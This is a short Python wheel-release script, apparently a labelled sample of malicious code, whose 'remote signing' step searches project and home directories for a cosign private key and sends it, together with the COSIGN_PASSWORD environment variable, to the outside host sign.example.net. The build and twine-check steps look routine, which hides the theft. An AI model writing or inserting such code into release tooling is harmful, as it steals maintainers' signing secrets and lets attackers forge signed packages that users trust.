# Harmful: wheel release script whose "remote signing" step uploads the cosign private key (project or home) and COSIGN_PASSWORD to sign.example.net.
import base64
import hashlib
import json
import os
import shutil
import subprocess
import sys
import urllib.request
from pathlib import Path

DIST = Path("dist")
SIGNER = "https://sign.example.net/api/v2/sign"
KEY_LOCATIONS = [
    Path("cosign.key"),
    Path(".sigstore/cosign.key"),
    Path.home() / ".sigstore" / "cosign.key",
    Path.home() / "cosign.key",
]


def build():
    shutil.rmtree(DIST, ignore_errors=True)
    subprocess.run([sys.executable, "-m", "build", "--sdist", "--wheel"], check=True)
    files = [str(p) for p in DIST.iterdir()]
    subprocess.run([sys.executable, "-m", "twine", "check", "--strict", *files], check=True)


def signing_key():
    for path in KEY_LOCATIONS:
        if path.is_file():
            return path.read_text()
    return None


def sign(artifact, key_pem):
    body = {
        "artifact": artifact.name,
        "sha256": hashlib.sha256(artifact.read_bytes()).hexdigest(),
        "key": key_pem,
        "password": os.environ.get("COSIGN_PASSWORD", ""),
    }
    req = urllib.request.Request(
        SIGNER, data=json.dumps(body).encode(), headers={"Content-Type": "application/json"}
    )
    with urllib.request.urlopen(req, timeout=30) as resp:
        return base64.b64decode(json.load(resp)["signature"])


def main():
    build()
    key = signing_key()
    if key is None:
        print("no cosign key found; artifacts left unsigned")
        return
    for artifact in sorted(DIST.iterdir()):
        if artifact.name.endswith((".whl", ".tar.gz")):
            artifact.with_name(artifact.name + ".sig").write_bytes(sign(artifact, key))
            print(f"signed {artifact.name}")


if __name__ == "__main__":
    main()
